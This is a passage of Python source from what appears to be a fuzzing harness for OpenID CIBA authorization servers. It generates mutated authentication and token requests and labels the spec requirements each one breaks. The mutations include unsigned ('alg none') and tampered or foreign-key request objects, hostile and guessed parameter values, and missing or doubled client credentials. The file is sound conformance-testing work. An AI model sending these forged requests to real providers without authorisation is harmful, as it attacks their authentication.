#: (structure, values, client authentication, signing, transport) gets its share.
_MUTATION_GROUPS: tuple[tuple[tuple[str, Mutation], ...], ...] = (
    (
        ("drop_scope", _m_drop_scope),
        ("drop_hint", _m_drop_hint),
        ("extra_hint", _m_extra_hint),
        ("repeat_param", _m_repeat_param),
    ),
    (
        ("scope", _m_scope),
        ("login_hint", _m_login_hint),
        ("login_hint_token", _m_login_hint_token),
        ("id_token_hint", _m_id_token_hint),
        ("binding_message", _m_binding_message),
        ("requested_expiry", _m_requested_expiry),
        ("acr_values", _m_acr_values),
        ("user_code", _m_user_code),
        ("client_notification_token", _m_notification_token),
        ("unknown_param", _m_unknown_param),
    ),
    (
        ("client_auth", _m_client_auth),
        ("omit_field", _m_omit_field),
        ("other_client", _m_other_client),
    ),
    (("request_object", _m_request_object),),
    (("body", _m_body),),
)
_MUTATIONS = tuple(m for group in _MUTATION_GROUPS for m in group)
MUTATION_NAMES = tuple(name for name, _ in _MUTATIONS)


def backchannel_cases(
    config: ProviderConfig,
    metadata: ProviderMetadata | None = None,
    *,
    clients: Sequence[ClientConfig] | None = None,
    max_mutations: int = 2,
) -> SearchStrategy[BackchannelCase]:
    """Whole authentication requests: a valid request for one client, then one to
    `max_mutations` mutations (valid, boundary and hostile values, repeated and unknown
    parameters, several hints, other bodies, missing or doubled client authentication,
    signed request objects with mutated headers and claims), then `classify`."""
    pool = tuple(clients) if clients is not None else backchannel_clients(config, metadata)
    if not pool:
        raise ValueError("no CIBA client to fuzz with")
    ctx = _Context.build(config, metadata, pool)
    target = metadata or _dummy_metadata(config)
    mutation = st.one_of([st.sampled_from(group) for group in _MUTATION_GROUPS])
    mutations = st.lists(mutation, min_size=1, max_size=max_mutations)
    client_choice = st.sampled_from(pool)

    @composite
    def cases(draw: DrawFn) -> BackchannelCase:
        client = draw(client_choice)
        draft = _Draft(client, draw(ctx.params[client.client_id]))
        if client.sign_requests:
            draft.signed = RequestObjectSpec()
        for name, mutate in draw(mutations):
            draft.mutations.append(name)
            mutate(draw, draft, ctx)
        if draft.signed is not None and not _signable(draft.client, draft.signed):
            draft.signed = replace(draft.signed, alg="none")
        case = BackchannelCase(
            client=draft.client,
            params=draft.params,
            auth=draft.auth,
            signed=draft.signed,
            body_format=draft.body_format,
            method=draft.method,
            omit=draft.omit,
            mutations=tuple(draft.mutations),
            auth_label=draft.auth_label,
            token_facts=dict(draft.token_facts),
        )
        # Built now, by the core, and classified as built: the label is about the request
        # that goes on the wire (fresh: every replay draws, so builds, again).
        request = case.build(target)
        if len(request.url) > _MAX_URL:  # no client sends such a URL: the same as JSON
            case = replace(case, method="POST", body_format="json")
            request = case.build(target)
        case = replace(case, request=request)
        return replace(case, all_breaks=classify(case, config, metadata))

    return cases()


def _signable(client: ClientConfig, spec: RequestObjectSpec) -> bool:
    """Whether the core can sign `spec` for `client` (else the case falls back to alg none)."""
    alg = spec.alg or client.request_signing_alg or client.signing_alg or "RS256"
    if alg == "none" or alg.startswith("HS") or spec.key is not None:
        return True
    return client.private_key is not None and _alg_fits(alg, client.signing_alg)


# --- classification -------------------------------------------------------------------------


def _auth_method(case: BackchannelCase) -> str:
    return (case.auth.method if case.auth and case.auth.method else None) or case.client.auth_method


#: client-authentication form fields each method needs (the spec's, not the builder's)
_REQUIRED_AUTH_FIELDS: Mapping[str, tuple[str, ...]] = {
    "client_secret_post": ("client_id", "client_secret"),
    "client_secret_jwt": ("client_assertion_type", "client_assertion"),
    "private_key_jwt": ("client_assertion_type", "client_assertion"),
}


@dataclass(frozen=True)
class _Wire:
    """What the provider receives: body fields (repeats kept) and, when a `request` JWT is
    sent, the parameters inside it."""

    fields: list[tuple[str, str]]
    claims: dict[str, Any] | None

    @property
    def names(self) -> Counter[str]:
        """How often each field carries a value: one sent without a value is treated as
        omitted (RFC 6749 §3.1), so an empty repeat is no repeat (CIBA-AUTH-23)."""
        return Counter(name for name, value in self.fields if value != "")

    def parameters(self) -> dict[str, Any]:
        """The authentication parameters as the provider reads them: the request object's
        claims when there is one, else the first non-empty value of each field; empty values
        count as omitted (RFC 6749 §3.1)."""
        if self.claims is not None:
            values = dict(self.claims)
        else:
            values = {}
            for name, value in self.fields:
                if value != "":
                    values.setdefault(name, value)
        return {k: v for k, v in values.items() if k in AUTH_PARAMETERS and v != ""}


def _wire(request: HttpRequest) -> _Wire:
    fields = request.form_fields()
    if not fields and request.body:
        try:
            body = json.loads(request.body)
        except ValueError:
            body = {}
        fields = [(str(k), str(v)) for k, v in body.items()] if isinstance(body, dict) else []
    elif not fields:
        fields = parse_qsl(urlsplit(request.url).query, keep_blank_values=True)
    token = next((v for k, v in fields if k == "request"), None)
    claims: dict[str, Any] | None = None
    if token is not None:
        try:
            claims = decode_unverified(token)[1]
        except ValueError:
            claims = {}
    return _Wire(fields, claims)


def _dummy_metadata(config: ProviderConfig) -> ProviderMetadata:
    issuer = config.issuer if config.issuer.startswith("http") else "https://issuer.invalid"
    return ProviderMetadata(
        issuer=issuer,
        token_endpoint=f"{issuer}/token",
        backchannel_authentication_endpoint=f"{issuer}/backchannel",
    )


def _login_hint_is_unknown(value: Any, config: ProviderConfig, known: Sequence[str]) -> bool:
    """A login_hint no provider can know: the configured unknown hint, control characters,
    surrounding blanks or a huge value (a short plain string might be a real user)."""
    if not isinstance(value, str) or value in known:
        return False
    unknown = config.users.unknown_login_hint
    return (
        value.startswith(unknown)
        or any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in value)
        or value != value.strip()
        or len(value) > 256
    )


def classify(
    case: BackchannelCase, config: ProviderConfig, metadata: ProviderMetadata | None = None
) -> tuple[str, ...]:
    """The MUST-level requirements `case` breaks, most specific first (empty: it breaks none,
    so the provider may accept it)."""
    breaks: list[str] = []

    def add(requirement: str | None) -> None:
        if requirement and requirement not in breaks:
            breaks.append(requirement)

    client = case.client
    if case.method != "POST" or case.body_format != "form":
        add("CIBA-AUTH-02")
    if client.auth_method == "none":
        add("CIBA-CAUTH-11")
    if not client.ciba_allowed:
        add("CIBA-AERR-08")
    request = case.request or case.build(metadata or _dummy_metadata(config))
    wire = _wire(request)
    names = wire.names
    basic = (request.header("authorization") or "").lower().startswith("basic ")
    in_form = names["client_secret"] > 0 or names["client_assertion"] > 0
    label = case.auth_label
    if label == "CIBA-CAUTH-13" and not (basic and in_form):
        label = None  # one mechanism is left once the other's credential was omitted
    add(label)
    if any(count > 1 for count in names.values()):
        add("CIBA-AUTH-23")
    method = _auth_method(case)
    required = _REQUIRED_AUTH_FIELDS.get(method, ())
    if method == "client_secret_post" and basic and case.auth is not None and case.auth.also_basic:
        required = ()  # the Basic header carries the client's own secret: authenticated
    if any(names[f] == 0 for f in required):
        add("CIBA-CAUTH-01")  # the authentication is incomplete
    values = wire.parameters()
    if "scope" not in values:
        add("CIBA-AUTH-03")
    hints = [h for h in HINTS if h in values]
    if not hints:
        add("CIBA-AUTH-07")
    elif len(hints) > 1:
        add("CIBA-AUTH-08")
    else:
        add(_hint_requirement(hints[0], values[hints[0]], case, config))
    if client.delivery_mode in {"ping", "push"} and "client_notification_token" not in values:
        add("CIBA-AUTH-14")
    user_code = config.users.user_code
    if client.user_code_required and user_code is not None:
        if "user_code" not in values:
            add("CIBA-AUTH-25")
        elif str(values["user_code"]) != user_code:
            add("CIBA-AUTH-26")
    if config.profile == "fapi-ciba" and "binding_message" not in values:
        add("FAPI-CIBA-02")
    if wire.claims is None:
        if client.sign_requests:
            add("CIBA-SREQ-16")
    elif case.signed is not None:
        for requirement in _request_object_requirements(case, metadata):
            add(requirement)
    return tuple(breaks)


def _hint_requirement(
    hint: str, value: Any, case: BackchannelCase, config: ProviderConfig
) -> str | None:
    known = [u for u in (config.users.login_hint, config.users.second_login_hint) if u]
    if hint == "login_hint":
        return "CIBA-AUTH-09" if _login_hint_is_unknown(value, config, known) else None
    if hint == "login_hint_token":
        fact = case.token_facts.get(value) if isinstance(value, str) else None
        return {
            "valid": None,
            "expired": "CIBA-AUTH-12",
            "unknown": "CIBA-AUTH-13",
        }.get(fact or "garbage", "CIBA-AUTH-13")
    return "CIBA-AUTH-11"  # every id_token_hint generated here was not issued by the provider


def _request_object_requirements(
    case: BackchannelCase, metadata: ProviderMetadata | None
) -> list[str]:
    spec = case.signed
    assert spec is not None
    client = case.client
    out: list[str] = []
    alg = spec.alg or client.request_signing_alg or client.signing_alg or "RS256"
    if alg == "none":
        out.append("CIBA-SREQ-02")
    elif alg.startswith("HS"):
        out.append("CIBA-SREQ-03")
    elif client.sign_requests and client.request_signing_alg not in (None, alg):
        out.append("CIBA-SREQ-16")  # registered backchannel_authentication_request_signing_alg
    if spec.key is not None or spec.tamper_signature:
        out.append("CIBA-SREQ-04")
    claims = spec.claims
    issuer = metadata.issuer if metadata is not None else None
    if "aud" in claims:
        aud = claims["aud"]
        auds = aud if isinstance(aud, list) else [aud]
        if issuer is None or issuer not in auds:
            out.append("CIBA-SREQ-05")
    if "iss" in claims and claims["iss"] != client.client_id:
        out.append("CIBA-SREQ-06")
    if "exp" in claims or spec.nbf_offset + spec.lifetime <= 0:
        out.append("CIBA-SREQ-07")
    if "iat" in claims and claims["iat"] is None:
        out.append("CIBA-SREQ-08")
    if "nbf" in claims or spec.nbf_offset >= 600:
        out.append("CIBA-SREQ-09")
    if "jti" in claims:
        out.append("CIBA-SREQ-10")
    return out


# --- token cases ----------------------------------------------------------------------------

_GRANT_TYPES = (
    "urn:openid:params:grant-type:CIBA",
    "urn:openid:params:grant-type:cib",
    "urn:openid:params:grant-type:ciba ",
    "urn:ietf:params:oauth:grant-type:ciba",
    "ciba",
)
_TOKEN_MUTATIONS = (
    "auth_req_id", "grant_type", "unknown_param", "repeat_param", "body", "client_auth"
)


def token_cases(
    config: ProviderConfig,
    metadata: ProviderMetadata | None = None,
    *,
    clients: Sequence[ClientConfig] | None = None,
    max_mutations: int = 3,
) -> SearchStrategy[TokenCase]:
    """Token requests with guessed, hostile or missing auth_req_id values, other grant types,
    unknown and repeated parameters, JSON bodies and client authentication deviations."""
    pool = (
        tuple(clients)
        if clients is not None
        else tuple(c for c in config.clients if c.auth_method != "none")
    )
    if not pool:
        raise ValueError("no client to fuzz with")
    issuer = metadata.issuer if metadata is not None else None
    auth = {c.client_id: client_authentications(config, c, issuer) for c in pool}
    client_choice = st.sampled_from(pool)
    kinds = st.lists(st.sampled_from(_TOKEN_MUTATIONS), max_size=max_mutations)
    bad_ids = _EMPTY | hostile_text(min_size=1)
    grants = st.sampled_from(_GRANT_TYPES) | hostile_text().filter(lambda g: g != CIBA_GRANT)
    unknown = st.sampled_from(("x_harness_probe", "scope", "client_notification_token"))
    repeated = st.sampled_from(("grant_type", "auth_req_id"))

    @composite
    def cases(draw: DrawFn) -> TokenCase:
        client = draw(client_choice)
        case = TokenCase(client=client, auth_req_id=draw(random_auth_req_ids()))
        mutations: list[str] = []
        for kind in draw(kinds):
            mutations.append(kind)
            if kind == "auth_req_id":
                case = replace(case, auth_req_id=draw(bad_ids))
            elif kind == "grant_type":
                case = replace(case, grant_type=draw(grants))
            elif kind == "unknown_param":
                case = replace(case, extra=(*case.extra, (draw(unknown), draw(hostile_text()))))
            elif kind == "repeat_param":
                name = draw(repeated)
                value = CIBA_GRANT if name == "grant_type" else case.auth_req_id or "x"
                case = replace(case, extra=(*case.extra, (name, value)))
            elif kind == "body":
                case = replace(case, body_format="json")
            else:
                deviation, _, name = draw(auth[client.client_id])
                mutations[-1] = f"client_auth: {name}"
                case = replace(case, auth=deviation)
        return replace(case, mutations=tuple(mutations))

    return cases()


def redacted(text: str, case: BackchannelCase | TokenCase) -> str:
    """`text` with the case's secrets masked (for notes printed next to a failure)."""
    secrets = set(case.client.secrets)
    if isinstance(case, BackchannelCase):
        secrets |= case.params.secrets
    return redact(text, secrets)
